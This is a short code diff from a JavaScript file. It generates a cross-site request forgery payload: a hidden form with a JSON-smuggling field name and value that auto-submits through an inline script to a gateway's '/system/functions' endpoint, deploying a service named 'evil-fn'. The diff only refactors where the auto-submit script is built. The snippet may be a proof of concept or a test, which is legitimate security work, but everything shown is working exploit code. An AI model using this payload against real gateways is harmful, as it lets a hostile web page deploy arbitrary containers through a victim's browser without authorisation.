@@ -40,7 +40,8 @@ const form = () => {
   const name = `${DEPLOYMENT.slice(0, -1)},"x":"`.replaceAll('"', '&quot;');
   const field = `<input name="${name}" value="&quot;}">`;
   const action = `${gateway.url}/system/functions`;
-  return `<form method="post" enctype="text/plain" action="${action}">${field}</form><script>document.forms[0].submit()</script>`;
+  const script = '<script>document.forms[0].submit()</script>';
+  return `<form method="post" enctype="text/plain" action="${action}">${field}</form>${script}`;
 };
 
 const DEPLOYMENT = JSON.stringify({ service: 'evil-fn', image: 'example/echo-fn:1' });
